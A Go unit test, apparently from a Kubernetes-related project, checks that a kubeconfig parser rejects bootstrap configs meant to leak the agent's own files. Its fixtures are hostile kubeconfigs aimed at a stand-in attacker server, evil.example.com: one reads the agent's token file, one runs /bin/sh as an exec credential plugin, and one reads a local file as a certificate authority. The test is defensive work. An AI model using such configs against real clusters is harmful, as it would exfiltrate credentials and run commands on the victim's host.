// Copyright The Capstan Authors.
// SPDX-License-Identifier: Apache-2.0

package connect

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/capstan-io/capstan/internal/kube/kubeconfig"
	"github.com/capstan-io/capstan/internal/testing/expect"
)

func TestABootstrapKubeconfigDoesNotSendTheAgentsOwnFiles(t *testing.T) {
	own := filepath.Join(t.TempDir(), "token")
	expect.NoError(t, os.WriteFile(own, []byte("of the agent's pod"), 0o600))
	const head = `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}], `
	for name, text := range map[string]string{
		"a token": `clusters: [{name: c, cluster: {server: "https://evil.example.com"}}], users: [{name: u, user: {tokenFile: ` + own + `}}]}`,
		"a program": `clusters: [{name: c, cluster: {server: "https://evil.example.com"}}],
			users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, interactiveMode: Never}}}]}`,
		"a certificate": `clusters: [{name: c, cluster: {server: "https://evil.example.com", certificate-authority: ` + own + `}}], users: [{name: u, user: {token: t}}]}`,
	} {
		t.Run(name, func(t *testing.T) {
			if got, err := ParseKubeconfig([]byte(head+text), kubeconfig.SecretFiles(nil)); err == nil {
				t.Errorf("it is taken, as %+v", got.Config)
			}
		})
	}
}
